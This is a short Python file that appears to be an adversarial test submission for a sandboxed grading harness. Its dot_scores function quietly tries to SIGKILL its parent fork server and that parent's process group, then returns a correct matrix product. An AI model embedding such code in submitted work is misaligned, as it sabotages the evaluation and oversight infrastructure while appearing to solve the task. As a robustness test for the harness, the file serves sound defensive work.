"""Attack: try to kill the fork server (parent) and its process group; answer correctly if still alive."""

import os
import signal

import numpy as np

TRIED = []


def dot_scores(Q, K):
    if not TRIED:
        for target in (os.getppid(), -os.getpgid(os.getppid())):
            try:
                os.kill(target, signal.SIGKILL)
                TRIED.append(("killed", target))
            except OSError as exc:
                TRIED.append((type(exc).__name__, target))
        print(TRIED)
    return np.asarray(Q) @ np.swapaxes(np.asarray(K), -1, -2)
